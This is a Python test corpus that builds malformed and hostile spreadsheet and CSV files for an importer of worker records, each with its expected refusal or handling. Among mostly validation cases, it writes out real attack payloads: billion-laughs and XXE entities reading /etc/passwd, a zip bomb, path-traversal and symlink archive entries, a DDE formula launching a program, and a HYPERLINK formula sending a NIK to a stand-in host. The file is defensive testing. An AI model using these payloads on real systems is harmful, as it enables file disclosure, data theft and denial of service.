"""Bad input, entry by entry: each file is made when a test asks for it, with its stated answer.

Entries 1–49 are tables. `surface` says who must give the answer: `reader` the reading of files,
`rows` the rules of rows, `import` the whole import, `export` what leaves as a table again.
"""

import stat
import zipfile
from dataclasses import dataclass
from pathlib import Path

from tests.corpus import parts as p
from tests.corpus.parts import GOOD, HEADINGS, Build, person, woman

READER, ROWS, IMPORT, EXPORT = "reader", "rows", "import", "export"
MB = 1024 * 1024


@dataclass(frozen=True)
class Answer:
    """What must happen: `refuse` the file, `row` refused, `accept`, or a stated behaviour.

    `code` is the refusal's or the problem's; `rows` counts all rows read, headings too;
    `warnings` are codes that must be told; `row` is the number a spreadsheet shows; `says` is the
    answer in words where a code cannot tell it.
    """

    does: str
    code: str = ""
    rows: int | None = None
    row: int | None = None
    warnings: tuple[str, ...] = ()
    says: str = ""


@dataclass(frozen=True)
class Entry:
    """One bad input: its number in the corpus, what it is, how it is made, the answer due."""

    id: str
    about: str
    file_name: str
    build: Build
    answer: Answer
    surface: str = READER
    kind: str = "workers"

    def make(self, folder: Path) -> Path:
        """Write the file into a folder and return its path."""
        path = folder / self.file_name
        self.build(path)
        return path


def refuse(code: str) -> Answer:
    """Return the answer: the file as a whole is refused."""
    return Answer("refuse", code=code)


def reads(rows: int, *warnings: str) -> Answer:
    """Return the answer: so many rows are read, headings too, and these warnings told."""
    return Answer("accept", rows=rows, warnings=warnings)


def row(code: str, *, number: int = 2) -> Answer:
    """Return the answer: this row is refused and listed, others go in."""
    return Answer("row", code=code, row=number)


def _entry(name: str, content: bytes, *, mode: int = 0) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    return info, content


def _sheet(rows: str, **around: str) -> Build:
    return p.packed(p.parts(p.sheet_xml(rows, **around)))


def _with_sheet(content: str | bytes) -> Build:
    return p.packed(p.parts("") | {"xl/worksheets/sheet1.xml": content})


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
DTD = f"<!DOCTYPE worksheet [{LAUGHS}]>"
XXE = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
ROWS_OK = p.rows_xml(HEADINGS, GOOD)
_NUMBER_NIK = ROWS_OK.replace(p.cell("A2", GOOD[0]), '<c r="A2"><v>5321991505870001</v></c>')
_LINK = '<c r="B2" t="str"><f>HYPERLINK("http://x?"&amp;A2)</f><v>Contoh</v></c>'
_PROGRAM = '<c r="B2" t="str"><f>cmd|\'/c calc\'!A1</f><v>0</v></c>'
_DAYS_1904 = p.parts(
    p.sheet_xml('<row r="1"><c r="A1" s="1"><v>30000</v></c></row>'),
    book='<workbookPr date1904="1"/>',
)
_STYLES = (
    f'{p.DECLARED}<styleSheet xmlns="{p.MAIN}"><cellXfs count="2"><xf numFmtId="0"/>'
    '<xf numFmtId="14"/></cellXfs></styleSheet>'
)
_SERIALS = '<row r="1"><c r="A1" s="1"><v>60</v></c><c r="B1" s="1"><v>61</v></c></row>'


def _far_cell(place: str) -> Build:
    number = place.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return _sheet(f'{ROWS_OK}<row r="{number}">{p.cell(place, "x")}</row>')


def _swollen(path: Path) -> None:
    blank = p.sheet_xml(f"{ROWS_OK}{' ' * 200 * MB}")
    p.packed(p.parts(blank))(path)


ARCHIVES = (
    Entry("1", "a cell at XFD1048576", "jauh.xlsx", _far_cell("XFD1048576"),
          refuse("too_many_columns")),
    Entry("1b", "a cell a million rows below the table", "bawah.xlsx", _far_cell("A1048576"),
          refuse("sheet_stretched")),
    Entry("2", "the dimension lies", "ukuran.xlsx",
          _sheet(p.rows_xml(HEADINGS, GOOD, GOOD), before='<dimension ref="A1:XFD1048576"/>'),
          reads(3)),
    Entry("3", "200 MB packed into 200 kB", "mekar.xlsx", _swollen, refuse("zip_bomb")),
    Entry("3b", "a directory that names the same bytes often", "tumpang.xlsx", p.overlapping,
          refuse("zip_bomb")),
    Entry("3c", "a directory that lies about a size", "bohong.xlsx", p.lying_size,
          refuse("file_damaged")),
    Entry("4", "an archive in the archive", "sarang.xlsx",
          p.with_entries([_entry("xl/embeddings/dalam.zip", b"PK\x05\x06" + bytes(18))]),
          refuse("zip_nested")),
    Entry("4b", "an archive in the archive, under another name", "sarang2.xlsx",
          p.with_entries([_entry("xl/media/gambar.png", b"PK\x03\x04" + bytes(40))]),
          refuse("zip_nested")),
    Entry("5", "5,000 parts", "banyak.xlsx",
          p.with_entries([_entry(f"xl/x{n}.xml", b"<x/>") for n in range(5000)]),
          refuse("zip_too_many_parts")),
    Entry("6", "a part that points outside", "luar.xlsx",
          p.with_entries([_entry("../../etc/x", b"x")]), refuse("zip_bad_name")),
    Entry("7", "a part that is a link", "tautan.xlsx",
          p.with_entries([_entry("xl/x.xml", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)]),
          refuse("zip_bad_name")),
    Entry("8", "billion laughs", "tawa.xlsx",
          _with_sheet(p.sheet_xml(ROWS_OK).replace("<worksheet", f"{DTD}<worksheet", 1)),
          refuse("xml_has_dtd")),
    Entry("9", "an outside entity", "entitas.xlsx",
          _with_sheet(p.sheet_xml(ROWS_OK).replace("<worksheet", f"{XXE}<worksheet", 1)),
          refuse("xml_has_dtd")),
    Entry("9b", "an outside entity, in UTF-16", "entitas16.xlsx",
          _with_sheet(f'<?xml version="1.0" encoding="UTF-16"?>{XXE}<worksheet/>'.encode("utf-16")),
          refuse("xml_has_dtd")),
    Entry("9c", "a document type behind 70 kB of comment", "komentar.xlsx",
          _with_sheet(f"<?xml version='1.0'?><!--{'x' * 70_000}-->{XXE}<worksheet/>"),
          refuse("file_damaged")),
    Entry("10", "a link to another workbook", "tautan-luar.xlsx",
          p.book(HEADINGS, GOOD, xl__externalLinks__externalLink1="<x/>"),
          reads(2, "links_ignored")),
    Entry("11", "a workbook with a password", "terkunci.xlsx", p.locked, refuse("file_locked")),
    Entry("12", "an old .xls", "lama.xls", p.old_excel, refuse("file_old_excel")),
    Entry("13", "a workbook with macros", "makro.xlsm",
          p.with_entries([_entry("xl/vbaProject.bin", b"x")]), refuse("file_has_macros")),
    Entry("13b", "macros under a harmless name", "makro.xlsx",
          p.with_entries([_entry("xl/vbaProject.bin", b"x")]), refuse("file_has_macros")),
    Entry("14", "CSV called .xlsx", "teks.xlsx", p.table(GOOD), refuse("file_not_what_it_says")),
    Entry("15", "XLSX called .csv", "buku.csv", p.book(HEADINGS, GOOD),
          refuse("file_not_what_it_says")),
    Entry("16", "a web page called .xls", "halaman.xls",
          p.raw(b"<html><table><tr><td>NIK</td></tr></table></html>"), refuse("file_is_html")),
    Entry("16b", "a web page called .csv", "halaman.csv", p.raw(b"<!DOCTYPE html><p>x"),
          refuse("file_is_html")),
    Entry("17", "an archive cut off", "potong.xlsx", p.truncated, refuse("file_damaged")),
    Entry("18", "two parts of one name", "kembar.xlsx",
          p.with_entries([_entry("xl/worksheets/SHEET1.xml", b"<x/>")]),
          refuse("zip_duplicate_name")),
    Entry("x1", "no bytes", "kosong.csv", p.raw(b""), refuse("file_empty")),
    Entry("x2", "only blank lines", "hampa.csv", p.raw(b"\r\n" * 50), refuse("file_empty")),
    Entry("x3", "PDF called .csv", "surat.csv", p.raw(b"%PDF-1.7\n%x\n"),
          refuse("file_not_what_it_says")),
    Entry("x4", "RTF called .csv", "surat2.csv", p.raw(b"{\\rtf1 x}"),
          refuse("file_not_what_it_says")),
    Entry("x5", "a picture called .csv", "foto.csv", p.raw(b"\x89PNG\r\n\x1a\n" + bytes(90)),
          refuse("file_not_what_it_says")),
    Entry("x6", "noise", "derau.csv", p.raw(bytes(range(1, 256)) * 400),
          refuse("file_not_what_it_says")),
    Entry("x7", "an ODS", "terbuka.ods", p.open_document, reads(2)),
)  # fmt: skip
CELLS = (
    Entry("19", "a link formula in a name", "rumus.xlsx",
          _sheet(ROWS_OK.replace(p.cell("B2", GOOD[1]), _LINK)), row("name_unreadable"), ROWS),
    Entry("20", "a formula that starts a program", "perintah.xlsx",
          _sheet(ROWS_OK.replace(p.cell("B2", GOOD[1]), _PROGRAM)), row("name_unreadable"), ROWS),
    Entry("20b", "the same in a CSV", "perintah.csv", p.table(person(name="=cmd|'/c calc'!A1")),
          row("name_unreadable"), ROWS),
    Entry("21", "a phone with its plus", "plus.csv", p.table(person(phone="+6281200000001")),
          reads(2), ROWS),
    Entry("22", "texts that a spreadsheet would run", "jalan.csv",
          p.table(*(person(phone="", name=f"{sign}Contoh") for sign in ("-", "@", "\t=", "\r="))),
          Answer("behave", says="kept as text or refused as a name; every export puts ' before"),
          EXPORT),
    Entry("23", "a NIK in scientific form", "ilmiah.csv",
          p.table(person(nik="5.32199150587E+15")), row("nik_stored_as_number"), ROWS),
    Entry("23b", "a NIK in a number cell", "angka.xlsx", _sheet(_NUMBER_NIK),
          row("nik_stored_as_number"), ROWS),
    Entry("24", "a NIK of 15 digits", "nik15.csv", p.table(person(nik="532199150587001")),
          row("nik_not_16_digits"), ROWS),
    Entry("24b", "a NIK of 17 digits", "nik17.csv", p.table(person(nik="53219915058700012")),
          row("nik_not_16_digits"), ROWS),
    Entry("25", "the letter O in a NIK", "huruf.csv", p.table(person(nik="53219915O5870001")),
          row("nik_has_letters"), ROWS),
    Entry("26", "a woman's NIK", "perempuan.csv", p.table(woman()), reads(2), ROWS),
    Entry("27", "a day of 35 in a NIK", "hari35.csv", p.table(person(nik="5321993505870001")),
          row("nik_bad_day"), ROWS),
    Entry("27b", "a day of 72 in a NIK", "hari72.csv", p.table(person(nik="5321997205870001")),
          row("nik_bad_day"), ROWS),
    Entry("28", "a NIK of region 0000", "wilayah.csv", p.table(person(nik="0000991505870001")),
          row("nik_bad_region"), ROWS),
    Entry("29", "one NIK in two rows", "ganda.csv",
          p.table(person(), person(name="Contoh Lain")),
          Answer("row", code="nik_twice_in_file", row=2, says="both rows are refused"), IMPORT),
    Entry("30", "a NIK that another name holds", "lain.csv", p.table(person(name="Nama Berbeda")),
          Answer("behave", says="after entry 46's man is in: goes to review, overwrites nothing"),
          IMPORT),
    Entry("31", "31 February", "februari.csv", p.table(person(born="31/02/1987")),
          row("date_impossible"), ROWS),
    Entry("32", "3/4 or 4/3", "rancu.csv", p.table(person(nik="", born="03/04/1987")),
          Answer("accept", rows=2, says="day first, as the template says: 3 April 1987"), ROWS),
    Entry("33", "serial 60 and 61", "serial.xlsx",
          p.packed(p.parts(p.sheet_xml(_SERIALS)) | {"xl/styles.xml": _STYLES}),
          Answer("accept", rows=1, says="1900-02-29|1900-03-01")),
    Entry("33b", "the date system of 1904", "serial1904.xlsx",
          p.packed(_DAYS_1904 | {"xl/styles.xml": _STYLES}),
          Answer("accept", rows=1, says="1986-02-19")),
    Entry("34", "born in the future", "depan.csv", p.table(person(nik="", born="01/01/2999")),
          row("born_in_future"), ROWS),
    Entry("34b", "150 years old", "tua.csv", p.table(person(nik="", born="01/01/1870")),
          row("born_too_long_ago"), ROWS),
    Entry("34c", "departed before birth", "mundur.csv",
          p.table(["Contoh Satu", "L", "15/05/1997", "Malaka", "Malaysia", "01/01/1990"],
                  headings=("Nama Lengkap", "Jenis Kelamin", "Tanggal Lahir", "Kabupaten/Kota",
                            "Negara Penempatan", "Tanggal Berangkat")),
          row("departed_before_birth"), IMPORT, "placements"),
)  # fmt: skip
SHAPES = (
    Entry("35", "merged headings over two rows", "gabung.xlsx",
          _sheet(p.rows_xml(HEADINGS, ("", "", "L", "P"), GOOD),
                 after='<mergeCells count="2"><mergeCell ref="A1:A2"/>'
                       '<mergeCell ref="C1:D1"/></mergeCells>'),
          reads(3, "cells_merged")),
    Entry("36", "one heading twice", "judul2.csv",
          p.table([*GOOD, "x"], headings=[*HEADINGS, "NIK"]), refuse("heading_twice"), IMPORT),
    Entry("37", "no column of names", "tanpa.csv",
          p.table(["5321991505870001", "15/05/1987", "L"],
                  headings=("NIK", "Tanggal Lahir", "Jenis Kelamin")),
          Answer("refuse", code="headings_not_found", says="names the column that is missing"),
          IMPORT),
    Entry("38", "hidden sheets", "sembunyi.xlsx",
          p.packed(p.parts(p.sheet_xml(ROWS_OK), p.sheet_xml(ROWS_OK), p.sheet_xml(ROWS_OK),
                           states=("visible", "hidden", "veryHidden"))),
          reads(2, "sheets_hidden")),
    Entry("38b", "hidden rows and columns", "sembunyi2.xlsx",
          _sheet(ROWS_OK.replace('<row r="2"', '<row r="2" hidden="1"'),
                 before='<cols><col min="2" max="2" width="0" hidden="1"/></cols>'),
          reads(2, "rows_hidden", "columns_hidden")),
    Entry("38c", "nothing but hidden sheets", "semua.xlsx",
          p.packed(p.parts(p.sheet_xml(ROWS_OK), states=("hidden",))),
          refuse("sheet_hidden_only")),
    Entry("39", "UTF-8 with a mark", "bom.csv", p.raw("\ufeffNama,x\nSérgio,1\n".encode()),
          Answer("accept", rows=2, says="Sérgio")),
    Entry("39b", "UTF-16", "utf16.csv", p.raw("Nama\tx\nSérgio\t1\n".encode("utf-16")),
          Answer("accept", rows=2, says="Sérgio")),
    Entry("39c", "UTF-16 without a mark", "utf16le.csv",
          p.raw("Nama\tx\nSérgio\t1\n".encode("utf-16-le")),
          Answer("accept", rows=2, says="Sérgio")),
    Entry("39d", "Windows-1252", "windows.csv", p.raw("Nama;x\nSérgio;1\n".encode("cp1252")),
          Answer("accept", rows=2, says="Sérgio")),
    Entry("39e", "two encodings in one file", "campur.csv",
          p.raw("Nama;x\nJosé;1\n".encode() + "Sérgio;1\n".encode("cp1252")),
          Answer("accept", rows=3, warnings=("encoding_mixed",), says="Sérgio")),
    Entry("39f", "UTF-16 cut inside a letter", "utf16rusak.csv",
          p.raw("Nama\tx\nSérgio\t1\n".encode("utf-16") + b"\x00\xd8x"),
          refuse("text_unreadable")),
    Entry("40", "NUL bytes", "nol.csv", p.raw(b"Nama,x\nCon\x00toh,1\n"),
          refuse("has_nul_bytes")),
    Entry("40b", "a NUL byte far down", "nol2.csv",
          p.raw(b"Nama,x\n" + b"Contoh,1\n" * 100_000 + b"\x00\n"), refuse("has_nul_bytes")),
    *(
        Entry(f"41{letter}", f"cells parted by {sign!r}", f"tanda{letter}.csv",
              p.raw(f"Nama{sign}Alamat{sign}x\n".encode()
                    + f'Satu{sign}"Jl. A, RT 1; RW 2"{sign}3,5\n'.encode() * 5),
              Answer("accept", rows=6, says="Jl. A, RT 1; RW 2"))
        for letter, sign in zip("abcd", ",;\t|", strict=True)
    ),
    Entry("41e", "Excel's sep= line", "sep.csv", p.raw(b"sep=;\r\nNama;x\r\nSatu;1,2\r\n"),
          Answer("accept", rows=2, says="1,2")),
    Entry("42", "a quoted cell of 10 MB", "sel.csv",
          p.raw(b'Nama,x\nContoh,"' + b"x\n" * 5 * MB + b'"\n'), refuse("cell_too_long")),
    Entry("42b", "a lost quote", "kutip.csv",
          p.raw(b'Nama,x\nSatu,"1\n' + b"Dua,2\n" * 2000), refuse("quotes_unbalanced")),
    Entry("42c", "two lost quotes that swallow rows", "kutip2.csv",
          p.raw(b'Nama,x\nSatu,"1\n' + b"Dua,2\n" * 200 + b'Tiga,3"\n'),
          refuse("quotes_unbalanced")),
    Entry("42d", "20 MB without a line end", "panjang.csv", p.raw(b"x" * 20 * MB),
          refuse("line_too_long")),
    Entry("42e", "100,000 columns", "lebar.csv", p.raw(b"a" + b",b" * 100_000 + b"\n"),
          refuse("too_many_columns")),
    Entry("42f", "a cell of 2 MB in a workbook", "sel.xlsx", _sheet(
          f'<row r="1">{p.cell("A1", "x" * 2 * MB)}</row>'), refuse("cell_too_long")),
    Entry("43", "60,000 blank rows below", "ekor.csv",
          p.raw(b"Nama,x,\nSatu,1,\n" + b",,\n" * 60_000), reads(2)),
    Entry("43b", "60,000 blank formatted rows below", "ekor.xlsx",
          _sheet(ROWS_OK + "".join(f'<row r="{n}"><c r="A{n}" s="1"/></row>'
                                   for n in range(3, 60_003))), reads(2)),
    Entry("44", "names of all kinds", "nama.csv",
          p.table(*(person(nik="", name=name, phone="") for name in (
              "Sukarni", "Ma'u", "Ma’u", "محمد", "Contoh 🙂", "Con\u202etoh", "Con\u200btoh"))),
          Answer("accept", rows=8, says="signs that turn the line or hide are taken out"), ROWS),
    Entry("45", "a name of 10,000 letters", "pajang.csv", p.table(person(name="x" * 10_000)),
          row("name_too_long"), ROWS),
    Entry("x9", "cells that never end", "tanpa-akhir.xlsx",
          _sheet('<row r="1">' + '<c r="A1"><f>' * 150_000 + "</row>"), refuse("file_damaged")),
    Entry("x8", "rows of unequal length", "tepi.csv",
          p.raw(b"a,b,c\n1,2\n\n3,4,5,6\n7,8,9\n"), reads(4, "rows_too_wide")),
)  # fmt: skip
IMPORTS = (
    Entry("46", "the same file twice", "dua-kali.csv", p.table(GOOD),
          Answer("behave", says="already_imported true, nothing changes"), IMPORT),
    Entry("47", "two people send the same file at once", "bersamaan.csv", p.table(GOOD),
          Answer("behave", code="being_imported", says="one wins, no person twice"), IMPORT),
    Entry("48", "100,000 rows", "besar.csv",
          p.table(*(person(nik="", name=f"Contoh {n}", phone="") for n in range(100_000))),
          Answer("accept", rows=100_001, says="in the background, with progress"), IMPORT),
    Entry("49", "a reference to a case elsewhere", "rujuk.csv",
          p.table([*GOOD, "KASUS-99-2025"], headings=[*HEADINGS, "No. Kasus"]),
          Answer("behave", says="told like a case that does not exist; nothing is confirmed"),
          IMPORT),
)  # fmt: skip
ENTRIES = (*ARCHIVES, *CELLS, *SHAPES, *IMPORTS)


def entries_for(surface: str) -> tuple[Entry, ...]:
    """Return the entries whose answer a surface must give."""
    return tuple(entry for entry in ENTRIES if entry.surface == surface)
